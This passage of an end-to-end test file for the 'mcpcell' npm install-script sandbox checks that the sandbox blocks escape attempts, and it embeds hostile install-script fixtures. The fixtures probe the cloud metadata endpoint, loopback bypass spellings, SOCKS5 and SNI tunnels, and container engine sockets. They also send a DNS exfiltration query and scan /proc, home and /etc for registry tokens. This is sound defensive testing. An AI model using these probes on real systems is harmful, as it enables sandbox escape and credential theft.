// Adversary pass 3 on the install-script cell's network (commit d458bb8,
// issue 14 item 2): an npm install script runs in a cell whose only network
// is the npm registry the host's npm used, through mcpcell's egress proxy.
// Each test below is one attack and asserts the SECURE outcome, so a test
// that fails names a hole that is open.
//
// One install (`mcpcell install npx://TOP@1.0.0`) carries two hostile
// packages, each in a cell of its own (so each has its own audit and its own
// budget of 20 denials told on stderr):
//   - NOISY: a few denials whose wording the tests read (metadata address,
//     the host's own addresses, names with terminal escapes);
//   - REACH: everything else (other host loopback ports in every spelling,
//     SOCKS5, abstract unix sockets, container sockets, DNS, TLS with
//     another server name inside a tunnel to the registry, the token, a flood).
// The registry is on the host's loopback behind a byte-recording relay
// (FRONT), so what a script sends "to the registry" can be inspected.
// Three more installs point the host's npm at weird but working registry
// URLs (user:token@ in the URL, written two ways; a host name that resolves
// to loopback).
//
// Open when written (these tests fail): TLS with another server name inside
// a tunnel allowed for the registry (SNI routing on a shared CDN such as
// registry.npmjs.org's), plain HTTP naming another virtual host inside it,
// denials in a script cell that offer flags (--secret, --resolve), the
// ordinary user:token@ registry URL (npm 11 will not print it: every
// install with scripts fails), the token printed for http:/user:token@host/,
// and a registry whose name resolves to an internal address (refused in the
// cell, with --resolve advice).
//
// Run as root and as mcpcell-test:
//   cd tests/e2e && MCPCELL_BIN=../../build/mcpcell node --test --test-concurrency=1 adv3_script_network.test.mjs

import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import dns from 'node:dns';
import { createServer } from 'node:http';
import net from 'node:net';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { runMcpcell, skipWithoutCell, isolationSkipReason } from './lib/mcpcell.mjs';
import { scriptsEnv, startPackageRegistry } from './lib/npm_registry.mjs';
import { removeTempDirs, writeReadableFile } from './lib/tmp.mjs';

const id = randomBytes(4).toString('hex');
const TOP = `adv3-top-${id}`;
const NOISY = `adv3-noisy-${id}`;
const REACH = `adv3-reach-${id}`;
const USERINFO = `adv3-userinfo-${id}`;
const SLASHLESS = `adv3-slashless-${id}`;
const BYNAME = `adv3-byname-${id}`;
const TOKEN = `npm_adv3SECRET${randomBytes(8).toString('hex')}`;
const URL_TOKEN = `adv3urltok${randomBytes(8).toString('hex')}`;
const URL_TOKEN2 = `adv3urltwo${randomBytes(8).toString('hex')}`;
const ESC = `adv3-esc-${id}`;
const SNI_CONNECT = `sni-connect-${id}.example`;
const SNI_REDIRECT = `sni-redirect-${id}.example`;
const SNI_SOCKS = `sni-socks-${id}.example`;
const VHOST = `vhost-${id}.example`;

// Shared by both hostile scripts: probes that send a real request and report
// the first line of the answer, or why there was none.
const PRELUDE = `const fs = require('fs'); const net = require('net'); const dns = require('dns'); const path = require('path');
const tls = require('tls'); const dgram = require('dgram');
const report = {};
const PROXY = { host: '127.0.0.1', port: Number(new URL(process.env.HTTP_PROXY || 'http://127.0.0.1:3128').port) };
const talk = (host, port, request, opts = {}) => new Promise((resolve) => {
  const s = net.connect({ host, port, timeout: 4000, ...opts });
  let got = '';
  const done = (why) => { s.destroy(); resolve(got ? 'ok: ' + got.split('\\r\\n')[0] : 'error ' + why); };
  s.on('connect', () => s.write(Buffer.from(request, 'latin1')));
  s.on('data', (d) => { got += d.toString('latin1'); if (got.includes('\\r\\n')) done(); });
  s.on('timeout', () => done('timeout'));
  s.on('error', (e) => done(e.code));
  s.on('end', () => done('closed without an answer'));
});
const viaProxy = (request) => talk(PROXY.host, PROXY.port, request);
const connectReq = (authority, host = authority) => 'CONNECT ' + authority + ' HTTP/1.1\\r\\nHost: ' + host + '\\r\\n\\r\\n';
const getReq = (url, host) => 'GET ' + url + ' HTTP/1.1\\r\\nHost: ' + host + '\\r\\nConnection: close\\r\\n\\r\\n';
// SOCKS5: greeting, then CONNECT with atyp/address; the reply code (0 = connected).
const socks = (atyp, addr, port) => new Promise((resolve) => {
  const s = net.connect({ ...PROXY, timeout: 4000 });
  let got = Buffer.alloc(0); let stage = 0;
  const done = (v) => { s.destroy(); resolve(v); };
  s.on('connect', () => s.write(Buffer.from([5, 1, 0])));
  s.on('data', (d) => {
    got = Buffer.concat([got, d]);
    if (stage === 0 && got.length >= 2) {
      stage = 1; got = got.subarray(2);
      const p = Buffer.from([port >> 8, port & 255]);
      const a = atyp === 3 ? Buffer.concat([Buffer.from([addr.length]), addr]) : addr;
      s.write(Buffer.concat([Buffer.from([5, 1, 0, atyp]), a, p]));
    }
    if (stage === 1 && got.length >= 2) done('reply ' + got[1]);
  });
  s.on('timeout', () => done('error timeout'));
  s.on('error', (e) => done('error ' + e.code));
  s.on('end', () => done('error closed'));
});
// One DNS query for a raw wire name (labels as byte buffers) to the cell's stub.
const rawDns = (labels, type = 1) => new Promise((resolve) => {
  const sock = dgram.createSocket('udp4');
  const parts = [Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
  for (const l of labels) parts.push(Buffer.from([l.length]), l);
  parts.push(Buffer.from([0, 0, type, 0, 1]));
  const timer = setTimeout(() => { sock.close(); resolve('error timeout'); }, 3000);
  sock.on('message', (m) => { clearTimeout(timer); sock.close(); resolve('rcode ' + (m[3] & 15) + ' answers ' + m.readUInt16BE(6)); });
  sock.on('error', (e) => { clearTimeout(timer); sock.close(); resolve('error ' + e.code); });
  sock.send(Buffer.concat(parts), 53, '127.0.0.53');
});
const finish = () => {
  fs.writeFileSync(path.join(__dirname, 'report.json'), JSON.stringify(report, null, 2));
};
`;

/** NOISY: a handful of denials whose stderr wording is checked (fewer than 20 distinct hosts). */
function noisyScript(t) {
  return `${PRELUDE}
const t = ${JSON.stringify(t)};
(async () => {
  // A cloud metadata address, by redirect and by the proxy's absolute form.
  report.metadata_redirect = await talk('169.254.169.254', 80, 'GET /latest/meta-data/ HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n');
  report.metadata_proxy = await viaProxy(getReq('http://169.254.169.254/latest/meta-data/', '169.254.169.254'));
  // The host's own non-loopback addresses (docker0, eth0...), another port.
  for (const a of t.hostAddrs) report['host_addr_' + a] = await viaProxy(getReq('http://' + a + ':' + t.other + '/', a + ':' + t.other));
  // Names with terminal escapes: SOCKS5 domain, DNS label, Host header with a C1 CSI.
  report.socks_escape = await socks(3, Buffer.from('\\x1b]0;' + t.esc + '\\x07.example', 'latin1'), 443);
  report.dns_escape = await rawDns([Buffer.from('\\x1b]0;' + t.esc + '\\x07', 'latin1'), Buffer.from('example')]);
  report.host_c1 = await viaProxy('CONNECT 127.0.0.1:' + t.other + ' HTTP/1.1\\r\\nHost: \\xc2\\x9b31m' + t.esc + '\\r\\n\\r\\n');
  finish();
})();
`;
}

/** REACH: every way out the attacker could think of; the outcome of each in report.json. */
function reachScript(t) {
  return `${PRELUDE}
const t = ${JSON.stringify(t)};
const os = require('os');
(async () => {
  report.registry_sanity = await viaProxy(getReq('http://127.0.0.1:' + t.front + '/' + t.name, '127.0.0.1:' + t.front));

  // The host's other loopback service (127.0.0.1:other) in every spelling, via CONNECT and absolute-form GET.
  const spellings = ['127.0.0.1', 'localhost', 'LOCALHOST', 'localhost.', 'LocalHost.', '[::1]', '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]', '[::127.0.0.1]', '[0:0:0:0:0:0:0:1]', '[0000::1]', '2130706433', '0x7f000001', '0x7f.0.0.1', '0177.0.0.1',
    '127.1', '127.0.1', '127.0.0.1.', '0.0.0.0', '0', '[::]', '127.0.0.2', '127.255.255.254', 'localhost.localdomain',
    'foo.localhost', t.hostname, '%31%32%37.0.0.1', '[::1%25lo]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]'];
  report.spellings = {};
  for (const h of spellings) {
    report.spellings['connect ' + h] = await viaProxy(connectReq(h + ':' + t.other));
    report.spellings['get ' + h] = await viaProxy(getReq('http://' + h + ':' + t.other + '/', h + ':' + t.other));
  }
  // Authority vs Host header: the allowed registry in one, the other port in the other.
  report.mismatch = {
    get_url_registry_host_other: await viaProxy(getReq('http://127.0.0.1:' + t.front + '/', '127.0.0.1:' + t.other)),
    get_url_other_host_registry: await viaProxy(getReq('http://127.0.0.1:' + t.other + '/', '127.0.0.1:' + t.front)),
    connect_other_host_registry: await viaProxy(connectReq('127.0.0.1:' + t.other, '127.0.0.1:' + t.front)),
    get_userinfo: await viaProxy(getReq('http://127.0.0.1:' + t.front + '@127.0.0.1:' + t.other + '/', '127.0.0.1:' + t.other)),
    get_userinfo2: await viaProxy(getReq('http://x@127.0.0.1:' + t.other + '/', '127.0.0.1:' + t.other)),
    get_port_twice: await viaProxy(getReq('http://127.0.0.1:' + t.front + ':' + t.other + '/', '127.0.0.1:' + t.other)),
    get_backslash: await viaProxy(getReq('http://127.0.0.1:' + t.other + '\\\\@127.0.0.1:' + t.front + '/', '127.0.0.1:' + t.front)),
    get_https_scheme: await viaProxy(getReq('https://127.0.0.1:' + t.other + '/', '127.0.0.1:' + t.other)),
    get_origin_form: await viaProxy(getReq('/', '127.0.0.1:' + t.other)),
    connect_port_0: await viaProxy(connectReq('127.0.0.1:0')),
    connect_port_big: await viaProxy(connectReq('127.0.0.1:' + (t.other + 65536))),
    connect_proxy_port: await viaProxy(connectReq('127.0.0.1:3128')),
  };
  // SOCKS5 (ALL_PROXY=socks5h://...): IPv4, IPv6 and domain forms of the other port.
  const v6 = (s) => { const b = Buffer.alloc(16); const h = s.split(':').map((x) => parseInt(x || '0', 16)); for (let i = 0; i < 8; i++) b.writeUInt16BE(h[i] || 0, i * 2); return b; };
  report.socks = {
    v4_other: await socks(1, Buffer.from([127, 0, 0, 1]), t.other),
    v4_zero_other: await socks(1, Buffer.from([0, 0, 0, 0]), t.other),
    v6_loopback_other: await socks(4, v6('0:0:0:0:0:0:0:1'), t.other),
    v6_mapped_other: await socks(4, v6('0:0:0:0:0:ffff:7f00:1'), t.other),
    name_localhost_other: await socks(3, Buffer.from('localhost'), t.other),
    name_nul_other: await socks(3, Buffer.from('127.0.0.1\\0.example', 'latin1'), t.other),
    name_trailing_nul: await socks(3, Buffer.from('localhost\\0', 'latin1'), t.front),
    name_ip_decimal_other: await socks(3, Buffer.from('2130706433'), t.other),
    v4_registry: await socks(1, Buffer.from([127, 0, 0, 1]), t.front),
  };
  // Direct connects (nft redirects them to the proxy, or they stay in the cell's own namespace).
  report.direct = {};
  for (const [h, p] of [['127.0.0.1', t.other], ['0.0.0.0', t.other], ['127.0.0.2', t.other], ['::1', t.other],
    ['1.1.1.1', 443], ...t.hostAddrs.map((a) => [a, t.other])]) {
    report.direct[h + ':' + p] = await talk(h, p, 'GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n');
  }
  // The host's abstract unix socket (per network namespace) and the container engines' sockets.
  report.abstract = await new Promise((resolve) => {
    const s = net.connect({ path: '\\0' + t.abstract });
    s.on('connect', () => { s.destroy(); resolve('ok connected'); });
    s.on('error', (e) => resolve('error ' + e.code));
  });
  report.engine_sockets = {};
  for (const p of ['/var/run/docker.sock', '/run/docker.sock', '/run/podman/podman.sock', '/run/containerd/containerd.sock',
    '/run/user/' + t.uid + '/podman/podman.sock', '/run/user/' + t.uid + '/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private']) {
    report.engine_sockets[p] = await new Promise((resolve) => {
      const s = net.connect({ path: p });
      s.on('connect', () => { s.destroy(); resolve('ok connected'); });
      s.on('error', (e) => resolve('error ' + e.code));
    });
  }
  // DNS: no name resolves (a loopback registry needs none), and odd names are refused.
  const r = new dns.promises.Resolver({ timeout: 2000, tries: 1 });
  r.setServers(['127.0.0.53']);
  const q = async (fn) => { try { return 'ok ' + JSON.stringify(await fn()); } catch (e) { return 'error ' + e.code; } };
  report.dns = {
    a_registry_npmjs: await q(() => r.resolve4('registry.npmjs.org')),
    txt_exfil: await q(() => r.resolveTxt('c2VjcmV0.exfil-' + t.id + '.example')),
    a_hostname: await q(() => r.resolve4(t.hostname)),
    a_localhost: await q(() => r.resolve4('localhost')),
    any_raw: await rawDns([Buffer.from('x' + t.id), Buffer.from('example')], 255),
    // Port 53 elsewhere is DNATed to the stub; anything else UDP is dropped.
    udp_other: await new Promise((resolve) => { const s = dgram.createSocket('udp4'); s.send(Buffer.from('x'), t.other, '127.0.0.1', (e) => { s.close(); resolve(e ? 'error ' + e.code : 'sent'); }); }),
  };
  // TLS with another server name, inside a tunnel the proxy allowed for the registry:
  // on a CDN that routes by SNI (registry.npmjs.org is on one), this reaches any of its sites.
  const tlsThrough = (sock, servername) => new Promise((resolve) => {
    const ts = tls.connect({ socket: sock, servername, rejectUnauthorized: false });
    const done = (why) => { ts.destroy(); sock.destroy(); resolve(why); };
    ts.on('secureConnect', () => done('tls up'));
    ts.on('error', (e) => done('tls error ' + e.code));
    setTimeout(() => done('tls sent, no answer'), 2000);
  });
  const tunnel = (request) => new Promise((resolve) => {
    const s = net.connect(PROXY);
    let got = '';
    s.on('connect', () => s.write(request));
    s.on('data', function onData(d) { got += d.toString('latin1'); if (got.includes('\\r\\n\\r\\n')) { s.removeListener('data', onData); resolve(got.startsWith('HTTP/1.1 200') ? s : null); } });
    s.on('error', () => resolve(null));
    setTimeout(() => resolve(null), 4000);
  });
  { const s = await tunnel(connectReq('127.0.0.1:' + t.front)); report.sni_connect = s ? await tlsThrough(s, t.sniConnect) : 'no tunnel'; }
  { const s = net.connect({ host: '127.0.0.1', port: t.front }); await new Promise((r) => { s.on('connect', r); s.on('error', r); }); report.sni_redirect = await tlsThrough(s, t.sniRedirect); }
  { const s = net.connect(PROXY); const ok = await new Promise((resolve) => {
      let st = 0; let got = Buffer.alloc(0);
      s.on('connect', () => s.write(Buffer.from([5, 1, 0])));
      s.on('data', function onData(d) { got = Buffer.concat([got, d]);
        if (st === 0 && got.length >= 2) { st = 1; got = got.subarray(2); s.write(Buffer.from([5, 1, 0, 1, 127, 0, 0, 1, t.front >> 8, t.front & 255])); }
        if (st === 1 && got.length >= 10) { s.removeListener('data', onData); resolve(got[1] === 0); } });
      s.on('error', () => resolve(false)); });
    report.sni_socks = ok ? await tlsThrough(s, t.sniSocks) : 'no tunnel'; }
  // Plain HTTP inside the tunnel, naming another virtual host of the registry's
  // server; and, the control, a keep-alive request for the registry itself.
  const plainHttp = async (host) => { const s = await tunnel(connectReq('127.0.0.1:' + t.front));
    return s ? await new Promise((resolve) => { s.write('GET /' + t.name + ' HTTP/1.1\\r\\nHost: ' + host + '\\r\\nConnection: close\\r\\n\\r\\n');
      let got = ''; s.on('data', (d) => { got += d; }); s.on('close', () => resolve('answer ' + got.split('\\r\\n')[0])); setTimeout(() => { s.destroy(); resolve('timeout'); }, 3000); }) : 'no tunnel'; };
  report.vhost_in_tunnel = await plainHttp(t.vhost);
  report.vhost_own = await plainHttp('127.0.0.1:' + t.front);

  // The user's registry token: anywhere the script can read.
  const hits = [];
  const token = t.tokenHalves.join('');
  const scan = (label, text) => { if (text.includes(token)) hits.push(label); };
  scan('env', JSON.stringify(process.env));
  for (const pid of fs.readdirSync('/proc').filter((e) => /^\\d+$/.test(e))) {
    for (const f of ['cmdline', 'environ']) { try { scan('/proc/' + pid + '/' + f, fs.readFileSync('/proc/' + pid + '/' + f, 'latin1')); } catch {} }
  }
  const walk = (dir, depth) => {
    let entries = []; try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
    for (const e of entries) {
      const p = path.join(dir, e.name);
      if (e.isDirectory() && depth < 8) walk(p, depth + 1);
      else if (e.isFile()) { try { if (fs.statSync(p).size < 4 << 20) scan(p, fs.readFileSync(p, 'latin1')); } catch {} }
    }
  };
  walk(path.resolve(__dirname, '..', '..'), 0);
  for (const d of [os.homedir(), '/tmp', '/etc']) walk(d, 6);
  report.token_hits = hits;

  // A flood of denied names: stderr must stay bounded.
  let flood = 0;
  for (let i = 0; i < 300; i += 30) {
    await Promise.all(Array.from({ length: 30 }, (_, j) => viaProxy(connectReq('flood-' + (i + j) + '-' + t.id + '.example:443')).then(() => { flood += 1; })));
  }
  report.flood_sent = flood;
  finish();
})();
`;
}

/** A tiny install script: one request to the registry through the proxy, its answer in report.json. */
function registryOnlyScript(url) {
  return `const fs = require('fs'); const net = require('net'); const path = require('path');
const u = new URL(process.env.npm_config_registry || ${JSON.stringify(url)});
const s = net.connect({ host: '127.0.0.1', port: 3128, timeout: 4000 });
let got = '';
const done = (why) => { s.destroy(); fs.writeFileSync(path.join(__dirname, 'report.json'), JSON.stringify({ registry: process.env.npm_config_registry, answer: got ? got.split('\\r\\n')[0] : 'error ' + why, env: JSON.stringify(process.env) })); };
s.on('connect', () => s.write('GET ' + u.href + ' HTTP/1.1\\r\\nHost: ' + u.host + '\\r\\nConnection: close\\r\\n\\r\\n'));
s.on('data', (d) => { got += d; if (got.includes('\\r\\n')) done(); });
s.on('timeout', () => done('timeout')); s.on('error', (e) => done(e.code)); s.on('end', () => done('closed'));
`;
}

let registry;
let front;                     // relay in front of the registry: records every byte sent to "the registry"
let frontBytes = Buffer.alloc(0);
let other;                     // the host's other loopback service
let otherHits = 0;
let abstract;                  // a host abstract unix socket
let abstractHits = 0;
let home;
let env;
let install;                   // the result of the main install
const hostAddrs = Object.values(os.networkInterfaces()).flat()
  .filter((a) => a && a.family === 'IPv4' && !a.internal).map((a) => a.address).slice(0, 3);
const cacheDir = (name) => path.join(home, '.cache', 'mcpcell', 'npx', `${name}@1.0.0`);
const reportOf = (name, top = [NOISY, REACH].includes(name) ? TOP : name) => {
  const f = path.join(cacheDir(top), 'node_modules', name, 'report.json');
  return existsSync(f) ? JSON.parse(readFileSync(f, 'utf8')) : null;
};
/** mcpcell's stderr from "running the install scripts of NAME" to the next such line. */
function sliceFor(stderr, name) {
  const start = stderr.indexOf(`running the install scripts of ${name} `);
  if (start < 0) return '';
  const next = stderr.indexOf('running the install scripts of ', start + 10);
  return stderr.slice(start, next < 0 ? undefined : next);
}

before(async () => {
  if (await isolationSkipReason()) return;
  home = mkdtempSync('/var/tmp/e2e-adv3-home-');
  chmodSync(home, 0o777);
  other = createServer((req, res) => { otherHits += 1; res.end('the host\'s other service\n'); });
  await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
  abstract = net.createServer((s) => { abstractHits += 1; s.destroy(); });
  await new Promise((resolve, reject) => { abstract.on('error', reject); abstract.listen(`\0adv3-abs-${id}`, resolve); });
  const targets = (port) => ({
    id, other: other.address().port, front: port, hostAddrs, esc: ESC, hostname: os.hostname(), abstract: `adv3-abs-${id}`,
    uid: process.getuid(), tokenHalves: [TOKEN.slice(0, 10), TOKEN.slice(10)], sniConnect: SNI_CONNECT, sniRedirect: SNI_REDIRECT, sniSocks: SNI_SOCKS, vhost: VHOST, name: TOP,
  });
  // The relay in front of the registry first: the hostile scripts are packed with its port.
  front = net.createServer((c) => {
    const up = net.connect(registry.port, '127.0.0.1');
    c.on('data', (d) => { if (frontBytes.length < (1 << 20)) frontBytes = Buffer.concat([frontBytes, d]); });
    c.pipe(up).pipe(c);
    c.on('error', () => up.destroy());
    up.on('error', () => c.destroy());
  });
  await new Promise((resolve) => front.listen(0, '127.0.0.1', resolve));
  const frontPort = front.address().port;
  registry = await startPackageRegistry([
    { name: NOISY, version: '1.0.0', manifest: { scripts: { install: 'node probe.js' } }, files: { 'probe.js': noisyScript(targets(frontPort)) } },
    { name: REACH, version: '1.0.0', manifest: { scripts: { install: 'node probe.js' } }, files: { 'probe.js': reachScript(targets(frontPort)) } },
    { name: TOP, version: '1.0.0', manifest: { bin: { [TOP]: 'server.js' }, dependencies: { [NOISY]: '1.0.0', [REACH]: '1.0.0' } }, files: { 'server.js': '#!/usr/bin/env node\n' } },
    ...[USERINFO, SLASHLESS, BYNAME].map((name) => ({
      name, version: '1.0.0', manifest: { bin: { [name]: 'server.js' }, scripts: { install: 'node probe.js' } },
      files: { 'server.js': '#!/usr/bin/env node\n', 'probe.js': registryOnlyScript('http://127.0.0.1/') },
    })),
  ]);
  writeReadableFile(path.join(home, '.npmrc'),
    `registry=http://127.0.0.1:${front.address().port}/\n//127.0.0.1:${front.address().port}/:_authToken=${TOKEN}\nfetch-retries=0\n`);
  env = scriptsEnv(home);
});

after(async () => {
  await registry?.close();
  other?.close();
  abstract?.close();
  front?.close();
  if (home) rmSync(home, { recursive: true, force: true });
  removeTempDirs();
});

/** The main install, once; every test of the two hostile packages reads it. */
async function mainInstall() {
  if (!install) install = runMcpcell(['install', `npx://${TOP}@1.0.0`], { env, guardMs: 150_000 });
  const r = await install;
  assert.equal(r.code, 0, r.stderr);
  return r;
}

// ---------------------------------------------------------------- the main install

test('sanity: both hostile packages ran in cells of their own and reached the registry (and only through the proxy)', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const r = await mainInstall();
  const reach = reportOf(REACH);
  assert.ok(reach && reportOf(NOISY), `the scripts wrote their reports; stderr:\n${r.stderr}`);
  t.diagnostic(`reach report: ${JSON.stringify(reach)}`);
  t.diagnostic(`noisy report: ${JSON.stringify(reportOf(NOISY))}`);
  assert.match(reach.registry_sanity, /^ok: HTTP\/1\.1 200/, 'the registry answers through the proxy');
});

test('the host\'s other loopback port, in every spelling of 127.0.0.1 (CONNECT and absolute-form GET): never reached', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  await mainInstall();
  const reach = reportOf(REACH);
  for (const [k, v] of Object.entries(reach.spellings)) {
    assert.match(v, /^(error |ok: HTTP\/1\.[01] (400|403) )/, `${k}: ${v}`);
  }
  assert.equal(otherHits, 0, 'the other service counted no request');
});

test('Host header vs URL/CONNECT authority, userinfo, a second port, backslash, https:// and origin-form: never the other port', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  await mainInstall();
  const { mismatch } = reportOf(REACH);
  for (const [k, v] of Object.entries(mismatch)) {
    assert.match(v, /^(error |ok: HTTP\/1\.[01] (400|403) )/, `${k}: ${v}`);
  }
  assert.equal(otherHits, 0);
});

test('SOCKS5 (IPv4, IPv6, mapped, names with NUL, numeric names) to another host port: refused', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  await mainInstall();
  const { socks } = reportOf(REACH);
  assert.equal(socks.v4_registry, 'reply 0', 'the registry itself is reachable over SOCKS5 (the probe works)');
  for (const [k, v] of Object.entries(socks)) {
    if (k === 'v4_registry') continue;
    assert.notEqual(v, 'reply 0', `${k}: ${v}`);
  }
  assert.equal(otherHits, 0);
});

test('direct connects (the cell\'s own loopback, 0.0.0.0, ::1, the host\'s own addresses, the internet): nothing of the host answers', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  await mainInstall();
  const { direct } = reportOf(REACH);
  for (const [k, v] of Object.entries(direct)) assert.match(v, /^error /, `${k}: ${v}`);
  assert.equal(otherHits, 0);
});

test('the host\'s abstract unix socket and the container engines\' sockets are out of reach', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  await mainInstall();
  const reach = reportOf(REACH);
  assert.match(reach.abstract, /^error /, reach.abstract);
  assert.equal(abstractHits, 0);
  for (const [k, v] of Object.entries(reach.engine_sockets)) assert.match(v, /^error /, `${k}: ${v}`);
});

test('DNS through the cell\'s stub: no name resolves to anything outside, nothing but DNS leaves over UDP', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  await mainInstall();
  const { dns: d } = reportOf(REACH);
  assert.match(d.a_registry_npmjs, /^error /, d.a_registry_npmjs);
  assert.match(d.txt_exfil, /^error /, d.txt_exfil);
  assert.match(d.a_hostname, /^error /, d.a_hostname);
  assert.match(d.any_raw, /^(rcode [^0]|error )/, d.any_raw);
});

test('TLS inside a tunnel the proxy allowed for the registry carries the registry\'s name, not another site\'s (SNI routing on a shared CDN)', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  await mainInstall();
  const reach = reportOf(REACH);
  t.diagnostic(`sni_connect: ${reach.sni_connect}; sni_redirect: ${reach.sni_redirect}; sni_socks: ${reach.sni_socks}`);
  // Each was cut off before a byte of it left (the denial's wording is
  // checked in egress_proxy_test.cc: here the stderr cap of 20 denial lines
  // is spent on earlier probes).
  for (const k of ['sni_connect', 'sni_redirect', 'sni_socks']) assert.match(reach[k], /^tls error/, `${k}: ${reach[k]}`);
  // registry.npmjs.org is served from Cloudflare's shared addresses, which pick
  // the site by the ClientHello's server name: a ClientHello naming another
  // site, passed through a tunnel opened for the registry, reaches that site.
  const seen = frontBytes.toString('latin1');
  for (const name of [SNI_CONNECT, SNI_REDIRECT, SNI_SOCKS]) {
    assert.ok(!seen.includes(name), `a TLS ClientHello with server name ${name} reached the registry's address through the proxy`);
  }
});

// adv3 finding, fixed: the proxy judged the tunnel's host and the TLS server
// name, not the Host header of plain HTTP inside a tunnel. Every request of a
// plain-HTTP tunnel is now read (egress/http_host_gate.h) and one for another
// host cuts the connection before it leaves.
test('plain HTTP inside a CONNECT tunnel to the registry names no other virtual host of its server', {
  timeout: 170_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  await mainInstall();
  const reach = reportOf(REACH);
  t.diagnostic(`vhost_in_tunnel: ${reach.vhost_in_tunnel}; vhost_own: ${reach.vhost_own}`);
  assert.match(reach.vhost_own, /^answer HTTP\/1\.1 200/, 'the registry\'s own name is answered through the tunnel');
  assert.equal(reach.vhost_in_tunnel, 'answer ', 'the tunnel closed with no answer');
  assert.ok(!frontBytes.toString('latin1').includes(`Host: ${VHOST}`),
    `a request for Host: ${VHOST} reached the registry's server through a tunnel opened for the registry`);
});

test('the user\'s registry token (~/.npmrc _authToken) is nowhere the script can read', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const r = await mainInstall();
  assert.deepEqual(reportOf(REACH).token_hits, []);
  assert.ok(!r.stderr.includes(TOKEN));
});

test('a flood of denied hosts: stderr stays bounded', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const r = await mainInstall();
  assert.equal(reportOf(REACH).flood_sent, 300);
  const told = (r.stderr.match(/egress denied: flood-/g) ?? []).length;
  assert.ok(told <= 20, `${told} flood denials told on stderr`);
  assert.ok(r.stderr.length < 200_000, `stderr is ${r.stderr.length} bytes`);
});

test('denials echo no terminal escape from the script (SOCKS5 name, DNS label, Host header with C1 CSI)', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const r = await mainInstall();
  const noisy = sliceFor(r.stderr, NOISY);
  t.diagnostic(noisy);
  assert.ok(noisy.includes(ESC), 'the denials were told (the probe works)');
  assert.ok(!r.stderr.includes(`\x1b]0;${ESC}`), 'raw OSC from a name');
  assert.ok(!r.stderr.includes('\u009b'), 'raw C1 CSI from a Host header');
  assert.ok(!/[\x00-\x08\x0b-\x1f\x7f]/.test(noisy.replace(/\x1b\[[0-9;]*m/g, '')), 'no control byte in the denials');
});

test('every denial in a script cell says the cell\'s own advice and offers no flag (a metadata address, the host\'s own addresses)', { timeout: 170_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const r = await mainInstall();
  const noisy = sliceFor(r.stderr, NOISY);
  const denials = noisy.split('\n').filter((l) => l.includes('egress denied'));
  assert.ok(denials.some((l) => l.includes('169.254.169.254')), `the metadata denial was told:\n${noisy}`);
  for (const line of denials) {
    // "no flag or profile widens that": advice that offers --secret, --resolve,
    // --allow-host or a profile line tells the user to do what cannot work here.
    // (The rule may say what no flag can do: "allow_host and --resolve cannot allow it".)
    const advice = line.split('; to allow it, ')[1] ?? '';
    assert.doesNotMatch(advice, /--(?!install-scripts)[a-z-]+|allow_host|allow_port|permission profile/, line);
  }
  assert.ok(denials.filter((l) => l.includes('169.254.169.254')).every((l) => l.includes('install scripts reach only the npm registry')),
    `the metadata denial names the cell's reach:\n${denials.join('\n')}`);
});

// ---------------------------------------------------------------- weird registry URLs

test('a registry URL with user:token@ (the ordinary form): the install runs the scripts, and the token reaches neither the cell nor stderr', { timeout: 120_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const url = `http://adv3user:${URL_TOKEN}@127.0.0.1:${front.address().port}/`;
  const r = await runMcpcell(['install', `npx://${USERINFO}@1.0.0`], { env: { ...env, npm_config_registry: url }, guardMs: 110_000 });
  t.diagnostic(r.stderr.split('\n').filter((l) => /registry|error|mcpcell/.test(l)).slice(-8).join('\n'));
  assert.ok(!r.stderr.includes(URL_TOKEN), 'the token is not on stderr');
  const rep = reportOf(USERINFO);
  if (rep) assert.ok(!rep.env.includes(URL_TOKEN), 'the token is not in the cell\'s environment');
  // npm 11 refuses `npm config get registry` for such a URL ("The registry
  // option is protected"), so the install of any package with scripts fails.
  assert.equal(r.code, 0, `the install failed:\n${r.stderr}`);
  assert.ok(rep, 'the script ran');
  assert.equal(rep.registry, `http://127.0.0.1:${front.address().port}/`);
  assert.match(rep.answer, /^HTTP\/1\.1 (200|404)/, rep.answer);
});

test('a registry URL npm reads as user:token@ without "//" (http:/user:token@host/): the token is never printed', { timeout: 120_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const url = `http:/adv3user:${URL_TOKEN2}@127.0.0.1:${front.address().port}/`;
  const r = await runMcpcell(['install', `npx://${SLASHLESS}@1.0.0`], { env: { ...env, npm_config_registry: url }, guardMs: 110_000 });
  t.diagnostic(r.stderr.split('\n').filter((l) => /registry|error/.test(l)).slice(-5).join('\n'));
  // npm itself warns with the URL ("npm warn invalid config registry=..."): that line is npm's.
  const ours = r.stderr.split('\n').filter((l) => l.startsWith('mcpcell'));
  assert.ok(!ours.some((l) => l.includes(URL_TOKEN2)), `mcpcell printed the token:\n${ours.filter((l) => l.includes(URL_TOKEN2)).join('\n')}`);
  const rep = reportOf(SLASHLESS);
